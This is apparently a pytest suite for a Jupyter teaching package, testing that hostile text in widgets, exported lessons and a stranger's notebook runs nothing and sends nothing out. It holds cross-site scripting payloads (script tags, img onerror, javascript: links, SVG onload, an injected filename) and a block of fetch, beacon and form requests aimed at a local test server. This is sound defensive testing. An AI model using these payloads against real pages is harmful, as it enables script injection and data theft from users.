"""Hostile texts in a browser: nothing runs, nothing is lost, nothing breaks the layout or turns the arithmetic around.

What a notebook from a stranger can do where our package is installed, and whose affair it is:

- Ours: what our views, notes, questions and still pictures show is text. The extension that shows what stands still
  asks JupyterLab for the next best output, so JupyterLab's sanitizer judges it. An exported page fetches and sends
  nothing.
- nbconvert's: HTML in outputs and in the prose of an exported lesson is HTML, and a script in it runs, in a file that
  can neither fetch nor send. No policy of a page hinders it from going to another address.
- anywidget's and JupyterLab's: the state of widgets that a notebook holds is restored as it is opened, be it trusted
  or not, and anywidget runs the script in it. Any anywidget will do, and the script comes with the notebook: ours is
  not asked. The last test holds that it makes no difference whether we are there.
"""

import base64
import contextlib
import http.server
import json
import sys
import threading
from pathlib import Path

import nbformat
import numpy as np
import pytest
from lab import ROOT, Notebook
from mounted import blank, mount, show, state_of
from playwright.sync_api import TimeoutError as TooLate

sys.path.insert(0, str(ROOT / "tests"))

from hostile import HOSTILE, SCRIPT
from test_exported import Opened

from convhelpers import export, pages
from convhelpers.check import check_value
from convhelpers.feedback import Note
from convhelpers.pairing import cross_correlation, matrix_product
from convhelpers.question import Choice, Question
from convhelpers.recording import plain
from convhelpers.stepper import Stepper
from convhelpers.store import KERNELSPEC, VIEW
from convhelpers.texts import in_line, seen
from convhelpers.trace import record
from convhelpers.wording import sentence

STATES = "application/vnd.jupyter.widget-state+json"
ARITHMETIC = "(1, 0) = 3 times"
SEEN = """(arithmetic) => {
    const root = document.querySelector('.chs-stepper');
    const node = root.querySelector('.chs-sentence').firstChild;
    const start = node.data.indexOf(arithmetic);
    const places = [...arithmetic].map((_, index) => {
        const range = document.createRange();
        range.setStart(node, start + index);
        range.setEnd(node, start + index + 1);
        const { left, top } = range.getBoundingClientRect();
        return { left, top };
    });
    root.querySelector('.chs-left .chs-cell').focus();
    const tags = [...root.querySelectorAll('*')].map(({ tagName }) => tagName).sort();
    return {
        hacked: window.hacked ?? null,
        sentence: node.data,
        titles: [...root.querySelectorAll('.chs-title')].map((title) => title.textContent),
        pointer: root.querySelector('.chs-pointer').textContent,
        tags: tags.join(' '),
        inOrder: places.slice(1).every(({ left, top }, index) => top > places[index].top || left > places[index].left),
        tooWide: [root, ...root.querySelectorAll('.chs-head, p')]
            .filter((part) => part.scrollWidth > part.clientWidth + 1).map((part) => part.className),
        height: root.querySelector('.chs-stage').clientHeight,
    };
}"""
every = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


@pytest.fixture
def page(shared_page):
    return blank(shared_page)


def trace():
    return record(cross_correlation((3, 3), (2, 2)), np.arange(9).reshape(3, 3), [[0, 1], [2, 3]])


def hacked(page):
    return page.evaluate("window.hacked ?? null")


# The views


@every
def test_names_are_texts_in_a_stepper(page, text):
    mount(page, Stepper(trace(), step=3))
    usual = page.evaluate(SEEN, ARITHMETIC)
    mount(page, Stepper(trace(), step=3, names=(text, text)))
    found = page.evaluate(SEEN, ARITHMETIC)
    assert found["hacked"] is None
    assert found["sentence"] == sentence(trace(), 3, names=(text, text))
    assert found["titles"] == [in_line(text)] * 2 + usual["titles"][2:]
    assert in_line(text)[1:] in found["pointer"]  # the first letter is a capital one there
    assert found["tags"] == usual["tags"]
    assert found["inOrder"]
    assert found["tooWide"] == []
    assert found["height"] <= usual["height"] + 100


@every
def test_names_are_texts_in_a_matrix_product(page, text):
    product = record(matrix_product((2, 2), (2, 2)), [[1, 2], [3, 4]], [[5, 6], [7, 8]])
    root = mount(page, Stepper(product, step=3, names=(text, text)))
    assert root.locator(".chs-sentence").text_content() == sentence(product, 3, names=(text, text))
    assert hacked(page) is None


def hostile(value, keep=()):
    """The same with markup in the place of each text, and behind each template."""
    if isinstance(value, str):
        return SCRIPT if "{" not in value else f"{value} {SCRIPT}"
    if isinstance(value, dict):
        return {name: part if name in keep else hostile(part, keep) for name, part in value.items()}
    if isinstance(value, (list, tuple)):
        return [hostile(part, keep) for part in value]
    return value


def test_a_scene_that_somebody_else_wrote_runs_nothing(page):
    """Saved states can hold anything; here all of it but the roles of panels and the tables of indices."""
    state = state_of(Stepper(trace(), step=3, predict=True))
    for part in ("scene", "numbers"):
        state[part] = hostile(state[part], keep=("role", "base64", "changes"))
    state["notice"] = SCRIPT
    show(page, "stepper", state)
    root = page.locator(".chs-stepper")
    page.evaluate(SEEN, "")
    root.locator(".chs-field").fill(SCRIPT[:16])
    root.get_by_role("button", name="Check").click()
    assert SCRIPT in root.text_content()
    assert root.locator("img, script, iframe, a, style").count() == 0
    assert hacked(page) is None


@pytest.mark.parametrize(
    "text", [text for text in HOSTILE.values() if text], ids=[name for name in HOSTILE if name != "nothing"]
)
def test_texts_of_a_question_are_texts(page, text):
    question = Question(text, [Choice(text, text), Choice(f"{text}.", text, right=True)])
    show(page, "question", {name: plain(getattr(question, name)) for name in ("text", "choices", "chosen", "size")})
    root = page.locator(".chs-multiple-choice")
    page.keyboard.press("Tab")
    root.get_by_role("button").first.click()
    shown = [seen(text).replace("`", "")]
    assert root.locator(".chs-asked").all_text_contents() == shown
    assert root.locator(".chs-text").first.text_content() == shown[0]
    assert shown[0] in root.locator("[aria-live]").text_content()
    assert root.evaluate("(root) => root.scrollWidth <= root.clientWidth")
    assert root.locator("img, script, style").count() == 0
    assert hacked(page) is None


def test_notes_are_texts(page):
    notes = [Note("→", text, text, ((text, text),)) for text in HOSTILE.values()]
    notes.append(check_value(type(SCRIPT, (), {})(), 3))
    page.set_content("".join(note._repr_html_() for note in notes))
    assert page.locator(".chs-feedback").count() == len(notes)
    assert page.locator("img, script, a, b").count() == 0
    wide = "(notes) => notes.filter((note) => note.scrollWidth > note.clientWidth).length"
    assert page.locator(".chs-feedback").evaluate_all(wide) == 0
    assert hacked(page) is None


# Exported files

LESSON = f"""\
from convhelpers.check import check_value
from convhelpers.pairing import cross_correlation
from convhelpers.pictures import curves
from convhelpers.question import Choice, Question
from convhelpers.stepper import Stepper
from convhelpers.trace import record

text = {SCRIPT!r}
trace = record(cross_correlation((3, 3), (2, 2)), [[0, 1, 2], [3, 4, 5], [6, 7, 8]], [[0, 1], [2, 3]])
"""
SHOWN = [
    "Stepper(trace, step=3, names=(text, 'קלט'))",
    "Question(text, [Choice(text, text), Choice('b', text, right=True)])",
    "check_value(type(text, (), {})(), 3)",
    "curves([1, 2], {text: [1, 2]}, x_label=text, y_label=text, alt=text)",
    "print(text)",
    "text",
]


@pytest.fixture(scope="module")
def exported(browser, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    cells = [nbformat.v4.new_markdown_cell("# Hostile"), *map(nbformat.v4.new_code_cell, [LESSON, *SHOWN])]
    for cell in cells:
        cell.metadata["slideshow"] = {"slide_type": "slide"}
    path = folder / 'a" onfocus="hacked=1.ipynb'
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    assert export.main([str(path), "--slides", "--to", str(folder)]) == 0
    return folder, path.stem


@pytest.mark.parametrize("kind", ["page", "deck"])
def test_texts_are_texts_in_an_exported_lesson(browser, exported, kind):
    folder, name = exported
    opened = Opened(browser, folder / pages.KINDS[kind].format(name))
    said = opened.view(0).locator(".chs-sentence").text_content()
    assert said == sentence(trace(), 3, names=(SCRIPT, "קלט"))
    assert opened.view(1).locator(".chs-asked").text_content() == SCRIPT
    assert SCRIPT in opened.page.locator("img").evaluate_all("(images) => images.map((image) => image.alt)")
    assert opened.page.locator(".mount :is(img[src=x], script)").count() == 0
    assert (hacked(opened.page), opened.foreign(), opened.complaints) == (None, [], [])
    opened.context.close()


class Counting(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path.split("?")[0])
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_):
        pass


@pytest.fixture
def outside():
    """A server that notes what it is asked for, and its address."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counting) as server:
        server.asked = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server, f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


TRIES = """
<base href='{0}/base/'><link rel='stylesheet' href='{0}/sheet'>
<style>body {{ background: url({0}/background) }}</style>
<iframe src='{0}/frame'></iframe><object data='{0}/object'></object>
<script src='{0}/script'></script>
<iframe name='sent'></iframe><form action='{0}/form' method='post' target='sent'></form>
<script>
    fetch('{0}/fetch', {{ mode: 'no-cors' }}).catch(() => {{}});
    navigator.sendBeacon('{0}/beacon', 'x');
    new Image().src = '{0}/script-picture';
    document.querySelector('form[target=sent]').submit();
    globalThis.tried = true;
</script>"""


@pytest.mark.parametrize("guarded", [True, False])
def test_a_strangers_html_in_an_exported_page_fetches_and_sends_nothing(browser, outside, tmp_path, guarded):
    """Without the policy it would: so it is the policy that holds it."""
    server, address = outside
    output = nbformat.v4.new_output("display_data", {"text/html": TRIES.format(address)})
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", outputs=[output])])
    html = pages.written(notebook, Path("one.ipynb"), "page", {"one": "One"})
    assert html.count("Content-Security-Policy") == 1
    (tmp_path / "one.html").write_text(html if guarded else html.replace("Content-Security-Policy", "none"), "utf-8")
    page = browser.new_page()
    page.goto((tmp_path / "one.html").as_uri())
    page.wait_for_function("globalThis.tried")
    page.wait_for_load_state("networkidle")
    page.close()
    if guarded:
        assert server.asked == []
    else:
        ways = ["sheet", "background", "frame", "object", "script", "fetch", "beacon", "script-picture", "form"]
        assert set(ways) <= {path.strip("/") for path in server.asked}


# A stranger's notebook in JupyterLab

ALT = '"><img src=x onerror="hacked=1"> $x$ <script>hacked=1</script>'
MARKUP = "<script>hacked=1</script><img src=x onerror=\"hacked=1\"><a href='javascript:hacked=1'>a</a><b>bold</b>"
ESM = """
globalThis.ranByAnywidget = true;
export default { render({ el }) { el.innerHTML = "<b class='theirs'>theirs</b>"; } };"""


def shown_by(model_id, metadata=None, **data):
    view = {VIEW: {"version_major": 2, "version_minor": 0, "model_id": model_id}}
    output = nbformat.v4.new_output("display_data", view | data, metadata=metadata or {})
    return nbformat.v4.new_code_cell("", outputs=[output])


def strangers_notebook():
    """A notebook that imitates one of ours: a view with a script of its own, and views whose models are missing."""
    png = base64.b64encode((ROOT / "notebooks" / "stepper.png").read_bytes()).decode()
    picture, alt = {"image/png": png, "text/plain": MARKUP}, {"image/png": {"alt": ALT}}
    cells = [
        shown_by("theirs", alt, **picture),
        shown_by("missing", alt, **picture),
        shown_by("also missing", **{"text/html": MARKUP, "text/plain": MARKUP}),
        shown_by("__proto__", **{"application/javascript": "hacked=1", "text/plain": MARKUP}),
        shown_by("constructor", **{"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1"/>'}),
    ]
    state = {name: value for name, value in Stepper(trace()).get_state().items() if name.startswith("_")}
    names = {part: state[f"_model_{part}"] for part in ("name", "module", "module_version")}
    model = {f"model_{part}": name for part, name in names.items()} | {"state": state | {"_esm": ESM, "scene": MARKUP}}
    states = {"version_major": 2, "version_minor": 0, "state": {"theirs": model}}
    metadata = {"kernelspec": KERNELSPEC, "widgets": {STATES: states}}
    return nbformat.from_dict(json.loads(json.dumps(nbformat.v4.new_notebook(cells=cells, metadata=metadata))))


TRUSTED = "jupyterapp.shell.currentWidget.content.widgets.map((cell) => cell.model.trusted)"
OUTPUTS = "[...document.querySelectorAll('.jp-OutputArea-output')].map((output) => output.dataset.mimeType)"
IMAGES = "[...document.querySelectorAll('.jp-RenderedImage img')].map((image) => image.alt)"
WITH_CODE = ".jp-OutputArea-output :is(script, [onerror], [onload], a[href^='javascript'])"


def restored(page, lab_address):
    """Open the notebook, assert that nothing of it ran through us; return whether anywidget ran its script."""
    Notebook(page, lab_address, "stranger.ipynb")
    page.wait_for_function(f"{OUTPUTS}.length >= 4")
    with contextlib.suppress(TooLate):
        page.wait_for_function("window.ranByAnywidget", timeout=20_000)
    assert page.evaluate(TRUSTED) == [False] * 5
    assert page.evaluate("window.chsModules ?? null") is None  # none of our scripts is there
    assert page.locator(".theirs, .chs").count() == 0
    assert page.locator(WITH_CODE).count() == 0
    assert hacked(page) is None
    return page.evaluate("window.ranByAnywidget ?? false")


def test_a_strangers_notebook_gains_nothing_through_us(browser, lab_address, lab_root):
    nbformat.write(strangers_notebook(), lab_root / "stranger.ipynb")
    with_us, without_us = browser.new_page(), browser.new_page()
    without_us.route("**/convhelpers-stills/**", lambda route: route.abort())
    # The script in the widgets' state is anywidget's affair, with us and without us alike.
    assert restored(with_us, lab_address) == restored(without_us, lab_address)
    assert with_us.evaluate(IMAGES) == [ALT, ALT]
    assert without_us.evaluate(IMAGES) == ["", ""]  # so it was without us
    with_us.close()
    without_us.close()
